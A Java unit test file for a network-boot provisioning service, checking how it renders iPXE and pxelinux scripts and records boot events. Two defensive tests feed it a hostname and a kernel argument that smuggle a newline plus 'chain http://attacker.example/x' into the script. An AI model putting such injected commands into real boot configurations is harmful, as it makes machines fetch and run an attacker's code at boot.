package dev.provisioner.server.core;

import static org.assertj.core.api.Assertions.assertThat;

import dev.provisioner.server.core.timeline.ArtifactKind;
import dev.provisioner.server.core.timeline.BootEvent;
import dev.provisioner.server.core.timeline.Outcome;
import dev.provisioner.server.core.timeline.RecentTimeline;
import dev.provisioner.server.core.timeline.Transport;
import dev.provisioner.server.core.trust.RunningNodes;
import dev.provisioner.server.render.IgnitionConfigRenderer;
import dev.provisioner.server.render.IpxeScripts;
import dev.provisioner.server.render.PxelinuxConfigs;
import dev.provisioner.server.render.SwarmUnits;
import dev.provisioner.server.render.TemplateEngine;
import dev.provisioner.server.core.trust.AttemptSigner;
import dev.provisioner.server.core.trust.Attempts;
import dev.provisioner.server.store.MemoryAttemptStore;
import dev.provisioner.server.store.MemoryMachineStore;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The boot path on the in-memory store, with the real templates built into the jar. */
class BootServiceTest {

    private static final URI BASE = URI.create("http://boot.example:8080/");
    private static final MacAddress MAC = MacAddress.parse("52:54:00:12:34:56").orElseThrow();
    private static final TemplateEngine TEMPLATES = TemplateEngine.withBuiltIns(Optional.empty());
    private static final IpxeScripts IPXE = new IpxeScripts(TEMPLATES, Duration.ofSeconds(7));
    private static final PxelinuxConfigs PXELINUX = PxelinuxConfigs.perMachine(TEMPLATES, Duration.ofSeconds(7));
    private static final PxelinuxConfigs PXELINUX_DEFAULT = PxelinuxConfigs.fallback(TEMPLATES, Duration.ofSeconds(7));

    @TempDir
    Path data;

    private final MemoryMachineStore machines = new MemoryMachineStore();
    private final FixedProfiles profiles = new FixedProfiles()
            .add(new Profile("worker", new BootSpec("flatcar/vmlinuz", List.of("flatcar/image.cpio.gz", "extra/more.cpio.gz"),
                    List.of("flatcar.first_boot=1", "console=ttyS0")), Optional.empty()))
            .broken("broken", new Problem("profiles/broken.yaml", 2, 3, "unknown key 'boot.kernal'; did you mean 'kernel'?"));
    private final RecentTimeline timeline = new RecentTimeline(10, 10);

    private final Attempts attempts = new Attempts(new MemoryAttemptStore(), new AttemptSigner(new byte[32]),
            Duration.ofMinutes(30), RunningNodes.NONE, Clock.fixed(Instant.parse("2026-11-22T10:00:00Z"), ZoneOffset.UTC));

    private BootService service(Optional<String> defaultProfile) {
        return new BootService(machines, profiles, new IgnitionConfigRenderer(data, SwarmSource.NONE, new SwarmUnits(TEMPLATES, Optional.empty())),
                attempts, SwarmSource.NONE, timeline, defaultProfile, Clock.fixed(Instant.parse("2026-11-22T10:00:00Z"), ZoneOffset.UTC));
    }

    private static MachineIdentity who(String mac) {
        return MachineIdentity.reported(mac, "10.0.2.15")
                .withFirmware("12345678-9abc-def0-1234-56789abcdef0", "SER1", "x86_64", "pcbios");
    }

    private String ipxe(Optional<String> defaultProfile) {
        return service(defaultProfile).answer(who("52-54-00-12-34-56"), Transport.HTTP, BASE, IPXE);
    }

    @Test
    void aRegisteredMachineGetsItsProfilesKernelInitrdsAndArgs() {
        machines.create(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()));
        String script = ipxe(Optional.empty());
        assertThat(script).startsWith("#!ipxe\n").contains(
                "kernel --name vmlinuz http://boot.example:8080/assets/flatcar/vmlinuz?mac=52-54-00-12-34-56"
                        + " initrd=image.cpio.gz initrd=more.cpio.gz flatcar.first_boot=1 console=ttyS0 || goto failed\n",
                "initrd --name image.cpio.gz http://boot.example:8080/assets/flatcar/image.cpio.gz?mac=52-54-00-12-34-56 || goto failed\n",
                "initrd --name more.cpio.gz http://boot.example:8080/assets/extra/more.cpio.gz?mac=52-54-00-12-34-56 || goto failed\n",
                "boot || goto failed\n",
                "(worker-01)");
        assertThat(script.indexOf("initrd --name image")).isLessThan(script.indexOf("initrd --name more"));
        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
            assertThat(event.machine().uuid()).isEqualTo("12345678-9abc-def0-1234-56789abcdef0");
            assertThat(event.machine().serial()).isEqualTo("SER1");
            assertThat(event.kind()).isEqualTo(ArtifactKind.IPXE_SCRIPT);
            assertThat(event.transport()).isEqualTo(Transport.HTTP);
            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
            assertThat(event.artifact()).isEqualTo("worker");
            assertThat(event.machine().source()).isEqualTo("10.0.2.15");
            assertThat(event.time()).isEqualTo(Instant.parse("2026-11-22T10:00:00Z"));
        });
    }

    @Test
    void aMachineInStateLocalIsSentToItsDiskTheProfilesWayAndAFailedOneIsToldWhy() {
        profiles.add(new Profile("disk", new BootSpec("flatcar/vmlinuz", List.of(), List.of()), Optional.empty(),
                Profile.DEFAULT_SPEC, null, Optional.empty(), null, null, LocalBoot.SANBOOT));
        machines.create(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()).withState(MachineState.LOCAL));
        String exit = ipxe(Optional.empty());
        assertThat(exit).contains("echo Provisioner: 52:54:00:12:34:56 (worker-01) is in state local: booting its own disk",
                "\nexit\n").doesNotContain("kernel", "sanboot");
        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX))
                .hasValueSatisfying(config -> assertThat(config).contains("LOCALBOOT 0"));
        assertThat(timeline.of(MAC)).extracting(BootEvent::outcome).containsExactly(Outcome.LOCAL, Outcome.LOCAL);
        assertThat(timeline.of(MAC).get(0).detail()).isEqualTo("exit");

        machines.put(new Machine(MAC, "worker-01", "disk", Map.of(), Map.of()).withState(MachineState.LOCAL));
        assertThat(ipxe(Optional.empty())).contains("sanboot --no-describe --drive 0x80", "\nexit\n");
        machines.put(new Machine(MAC, "worker-01", "broken", Map.of(), Map.of()).withState(MachineState.LOCAL));
        assertThat(ipxe(Optional.empty())).as("its disk does not need its profile").contains("\nexit\n")
                .doesNotContain("cannot boot");

        machines.put(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()).withState(MachineState.REPROVISION));
        assertThat(ipxe(Optional.empty())).as("reprovision boots the profile").contains("kernel --name vmlinuz");

        machines.put(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()).withState(MachineState.FAILED));
        assertThat(ipxe(Optional.empty())).contains("is in state failed (its timeline says why); an operator sets it back: PATCH "
                + "/api/v1/machines/52-54-00-12-34-56 {\"state\": \"provision\"}").doesNotContain("kernel --name");
    }

    @Test
    void pxelinuxGetsTheSameDecisionWithTftpNamesThatCarryTheMachine() {
        machines.create(new Machine(MAC, "worker-01", "worker", Map.of(), Map.of()));
        Optional<String> config = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX);
        assertThat(config).hasValueSatisfying(text -> assertThat(text).contains(
                "KERNEL flatcar/vmlinuz?mac=52-54-00-12-34-56\n",
                "APPEND initrd=flatcar/image.cpio.gz?mac=52-54-00-12-34-56,extra/more.cpio.gz?mac=52-54-00-12-34-56 "
                        + "flatcar.first_boot=1 console=ttyS0\n"));
        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
            assertThat(event.kind()).isEqualTo(ArtifactKind.PXELINUX_CONFIG);
            assertThat(event.transport()).isEqualTo(Transport.TFTP);
            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
        });
    }

    @Test
    void anUnknownMachineIsToldOnItsConsoleAndRetries() {
        String script = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE, IPXE);
        assertThat(script).contains("echo Provisioner: machine 52:54:00:12:34:56 is not registered\n", "sleep 7\n",
                "chain --replace --autofree http://boot.example:8080/ipxe?mac=${mac:hexhyp}&uuid=${uuid}")
                .doesNotContain("kernel ");
        assertThat(timeline.of(MAC)).singleElement().extracting(BootEvent::outcome).isEqualTo(Outcome.NOT_REGISTERED);
        // pxelinux gets nothing, so it goes on to its other names at once
        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX)).isEmpty();
    }

    @Test
    void anUnknownMachineBootsTheDefaultProfileWhenOneIsConfigured() {
        String script = ipxe(Optional.of("worker"));
        assertThat(script).contains("kernel --name vmlinuz", "with profile worker");
        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
            assertThat(event.detail()).isEqualTo("default profile, machine not registered");
        });
    }

    @Test
    void pxelinuxDefaultIsRenderedFromTheDefaultProfileOnlyWhenThereIsOne() {
        MachineIdentity nobody = MachineIdentity.reported(null, "10.0.2.15");
        assertThat(service(Optional.empty()).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT)).isEmpty();
        assertThat(service(Optional.of("worker")).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT).flatMap(c -> c))
                .hasValueSatisfying(config -> assertThat(config)
                .contains("SAY Provisioner: booting an unregistered machine with profile worker\n",
                        "KERNEL flatcar/vmlinuz\n",
                        "APPEND initrd=flatcar/image.cpio.gz,extra/more.cpio.gz flatcar.first_boot=1 console=ttyS0\n"));
        assertThat(service(Optional.of("broken")).answerDefault(nobody, Transport.TFTP, BASE, PXELINUX_DEFAULT).flatMap(c -> c))
                .hasValueSatisfying(config -> assertThat(config)
                .contains("SAY Provisioner: the default profile broken cannot boot: profiles/broken.yaml:2:3: unknown key 'boot.kernal'",
                        "COM32 reboot.c32")
                .doesNotContain("KERNEL"));
    }

    @Test
    void aBrokenProfileIsExplainedOnTheConsoleWithFileLineAndColumn() {
        machines.create(new Machine(MAC, null, "broken", Map.of(), Map.of()));
        assertThat(ipxe(Optional.empty())).contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: profile broken: "
                + "profiles/broken.yaml:2:3: unknown key 'boot.kernal'; did you mean 'kernel'?").doesNotContain("kernel --name");
        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
            assertThat(event.outcome()).as("the machine's data is at fault").isEqualTo(Outcome.BROKEN);
            assertThat(event.artifact()).isEqualTo("broken");
        });
    }

    @Test
    void aBrokenBootTemplateIsExplainedOnTheConsole() throws Exception {
        Path templates = data.resolve("templates/ipxe");
        Files.createDirectories(templates);
        Files.writeString(templates.resolve("boot.ipxe.ftl"), "#!ipxe\nkernel [=kernel.nosuchfield]\n");
        machines.create(new Machine(MAC, null, "worker", Map.of(), Map.of()));
        IpxeScripts broken = new IpxeScripts(TemplateEngine.withBuiltIns(Optional.of(data.resolve("templates"))), Duration.ofSeconds(7));
        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE, broken))
                .contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: ipxe/boot.ipxe.ftl line 2 column 10:");
        assertThat(timeline.of(MAC)).singleElement().extracting(BootEvent::outcome).isEqualTo(Outcome.BROKEN);
    }

    @Test
    void aRefusalTemplateThatDoesNotRenderStillTellsTheMachineWhy() throws Exception {
        Path templates = data.resolve("templates");
        Files.createDirectories(templates.resolve("ipxe"));
        Files.createDirectories(templates.resolve("pxelinux"));
        Files.writeString(templates.resolve("ipxe/refusal.ipxe.ftl"), "#!ipxe\necho [=nosuch]\n");
        Files.writeString(templates.resolve("pxelinux/refusal.cfg.ftl"), "SAY [=nosuch]\n");
        TemplateEngine broken = TemplateEngine.withBuiltIns(Optional.of(templates));
        machines.create(new Machine(MAC, null, "gone", Map.of(), Map.of()));
        String script = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.HTTP, BASE,
                new IpxeScripts(broken, Duration.ofSeconds(7)));
        assertThat(script).startsWith("#!ipxe\n").contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: "
                + "profile gone: no profile 'gone' in the data directory (and the refusal template does not render: ipxe/refusal.ipxe.ftl",
                "sleep 7\n", "chain --replace --autofree http://boot.example:8080/boot.ipxe\n");
        String config = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE,
                PxelinuxConfigs.perMachine(broken, Duration.ofSeconds(7))).orElseThrow();
        assertThat(config).contains("SAY Provisioner: machine 52:54:00:12:34:56 cannot boot", "COM32 reboot.c32");
        assertThat(timeline.of(MAC)).extracting(BootEvent::outcome).containsExactly(Outcome.BROKEN, Outcome.BROKEN);
    }

    @Test
    void aMachineWhoseProfileNamesNoConfigHasNoConfigToAskFor() {
        machines.create(new Machine(MAC, null, "worker", Map.of(), Map.of()));
        BootService service = service(Optional.empty());
        assertThat(service.ignition(who("52:54:00:12:34:56"), Optional.empty(), Transport.HTTP, BASE)).isEqualTo(new ConfigOutcome.NoConfig());
        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FLATCAR, Optional.empty(), Transport.TFTP, BASE))
                .isEqualTo(new ConfigOutcome.NoConfig());
        assertThat(timeline.of(MAC)).isEmpty();
    }

    @Test
    void aHostnameThatSomeStoreLetThroughCannotAddACommandToTheScript() {
        // the rules keep this out of every store; the renderer is the second wall
        machines.create(new Machine(MAC, "evil\nchain http://attacker.example/x", "worker", Map.of(), Map.of()));
        String script = ipxe(Optional.empty());
        assertThat(script).contains("kernel --name vmlinuz");
        assertThat(Arrays.stream(script.split("\n")).map(String::strip))
                .noneMatch(line -> line.startsWith("chain http://attacker"));
        String pxelinux = service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX).orElseThrow();
        assertThat(Arrays.stream(pxelinux.split("\n")).map(String::strip))
                .noneMatch(line -> line.startsWith("chain http://attacker"));
    }

    @Test
    void aKernelArgumentThatWouldStartANewCommandIsRefusedNotBooted() {
        profiles.add(new Profile("sneaky", new BootSpec("flatcar/vmlinuz", List.of(),
                List.of("console=ttyS0\nchain http://attacker.example/x")), Optional.empty()));
        machines.create(new Machine(MAC, null, "sneaky", Map.of(), Map.of()));
        String script = ipxe(Optional.empty());
        assertThat(script).contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: kernel argument")
                .doesNotContain("kernel --name");
        assertThat(Arrays.stream(script.split("\n"))).noneMatch(line -> line.startsWith("chain http://attacker"));
    }

    @Test
    void aProfileWithAConfigAddsTheMachinesOemArchiveAndFirstBootFlag() throws Exception {
        Files.createDirectories(data.resolve("configs"));
        Files.writeString(data.resolve("configs/node.yaml"), "storage:\n  files:\n    - path: /etc/hostname\n"
                + "      contents:\n        inline: [=machine.hostname]\n");
        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of("flatcar/image.cpio.gz"),
                List.of("console=ttyS0")), Optional.of("node.yaml")));
        profiles.add(new Profile("legacy", new BootSpec("flatcar/vmlinuz", List.of(), List.of("coreos.first_boot=1")),
                Optional.of("node.yaml"), "2.3.0", OemFormat.FLATCAR, Optional.empty()));
        machines.create(new Machine(MAC, "n1", "ignited", Map.of(), Map.of()));
        String script = ipxe(Optional.empty());
        assertThat(script).contains(
                " initrd=image.cpio.gz initrd=oem.cpio.gz console=ttyS0 flatcar.first_boot=1 || goto failed",
                "initrd --name oem.cpio.gz http://boot.example:8080/oem/52-54-00-12-34-56.cpio.gz?attempt=");
        assertThat(script).containsPattern("oem/52-54-00-12-34-56\\.cpio\\.gz\\?attempt=[A-Za-z0-9_-]{16}"
                + "&expires=" + Instant.parse("2026-11-22T10:30:00Z").getEpochSecond() + "&sig=[A-Za-z0-9_-]{43} \\|\\| goto failed");
        assertThat(script.indexOf("initrd --name image")).isLessThan(script.indexOf("initrd --name oem"));
        assertThat(service(Optional.empty()).answer(who("52:54:00:12:34:56"), Transport.TFTP, BASE, PXELINUX).orElseThrow())
                .contains("APPEND initrd=flatcar/image.cpio.gz?mac=52-54-00-12-34-56,oem/52-54-00-12-34-56.cpio.gz?attempt=");

        machines.put(new Machine(MAC, "n1", "legacy", Map.of(), Map.of()));
        assertThat(ipxe(Optional.empty()))
                .contains(" initrd=oem.cpio.gz coreos.first_boot=1 coreos.config.url=oem:///config.ign || goto failed");

        machines.put(new Machine(MAC, null, "ignited", Map.of(), Map.of()));
        assertThat(ipxe(Optional.empty()))
                .contains("echo Provisioner: machine 52:54:00:12:34:56 cannot boot: configs/node.yaml:5:")
                .doesNotContain("kernel --name");
    }

    @Test
    void anArchiveAskedForUnderTheWrongSuffixIsRefusedBeforeAnythingIsRecorded() throws Exception {
        Files.createDirectories(data.resolve("configs"));
        Files.writeString(data.resolve("configs/node.yaml"), "passwd: {}\n");
        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of(), List.of()), Optional.of("node.yaml")));
        machines.create(new Machine(MAC, "n1", "ignited", Map.of(), Map.of()));
        BootService service = service(Optional.empty());
        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FCOS, Optional.empty(), Transport.HTTP, BASE))
                .isEqualTo(new ConfigOutcome.WrongName("oem/52-54-00-12-34-56.cpio.gz"));
        assertThat(timeline.of(MAC)).isEmpty();
        assertThat(service.oemArchive(who("52:54:00:12:34:56"), OemFormat.Layout.FLATCAR, Optional.empty(), Transport.TFTP, BASE))
                .isInstanceOf(ConfigOutcome.Ready.class);
        assertThat(timeline.of(MAC)).singleElement().satisfies(event -> {
            assertThat(event.kind()).isEqualTo(ArtifactKind.OEM_ARCHIVE);
            assertThat(event.transport()).isEqualTo(Transport.TFTP);
            assertThat(event.outcome()).isEqualTo(Outcome.SERVED);
        });
    }

    @Test
    void anUnregisteredMachineOnTheDefaultProfileGetsNoConfig() {
        profiles.add(new Profile("ignited", new BootSpec("flatcar/vmlinuz", List.of(), List.of()), Optional.of("node.yaml")));
        assertThat(ipxe(Optional.of("ignited"))).contains("kernel --name vmlinuz").doesNotContain("oem.cpio.gz", "first_boot");
        assertThat(service(Optional.of("ignited")).ignition(who("52:54:00:12:34:56"), Optional.empty(), Transport.HTTP, BASE))
                .isInstanceOf(ConfigOutcome.NotRegistered.class);
    }

    @Test
    void aMissingProfileIsExplainedToo() {
        machines.create(new Machine(MAC, null, "gone", Map.of(), Map.of()));
        assertThat(ipxe(Optional.empty())).contains("profile gone: no profile 'gone' in the data directory");
    }

    @Test
    void aRequestWithoutAValidMacIsRefusedWithTheReason() {
        assertThat(service(Optional.empty()).answer(who("not-a-mac"), Transport.HTTP, BASE, IPXE))
                .contains("echo Provisioner: the request carries no valid MAC address");
    }

    @Test
    void assetDownloadsLandInTheTimelineWhateverTheTransport() {
        BootService service = service(Optional.empty());
        service.fileServed(MachineIdentity.of(MAC, "10.0.2.15"), ArtifactKind.ASSET, Transport.TFTP, "flatcar/vmlinuz", true, Optional.empty());
        service.fileServed(MachineIdentity.of(MAC, "10.0.2.15"), ArtifactKind.ASSET, Transport.HTTP, "flatcar/gone", false, Optional.empty());
        assertThat(timeline.of(MAC)).extracting(BootEvent::kind, BootEvent::transport, BootEvent::outcome, BootEvent::artifact)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(ArtifactKind.ASSET, Transport.TFTP, Outcome.SERVED, "flatcar/vmlinuz"),
                        org.assertj.core.groups.Tuple.tuple(ArtifactKind.ASSET, Transport.HTTP, Outcome.MISSING, "flatcar/gone"));
    }

    @Test
    void theChainScriptUsesTheBaseUrlAndLeavesIpxeSettingsAlone() {
        assertThat(IPXE.chain(BASE)).startsWith("#!ipxe\n").contains(
                "chain --replace --autofree http://boot.example:8080/ipxe?mac=${mac:hexhyp}&uuid=${uuid}"
                        + "&serial=${serial:uristring}&arch=${buildarch}&platform=${platform} || goto failed");
    }

    @Test
    void untrustedRequestFieldsAreBoundedAndCleaned() {
        MachineIdentity who = MachineIdentity.reported("52:54:00:12:34:56", null).withFirmware("x".repeat(500), "a\nb\u0000c", " ", null);
        assertThat(who.uuid()).hasSize(128);
        assertThat(who.serial()).isEqualTo("a?b?c");
        assertThat(who.arch()).isNull();
    }
}
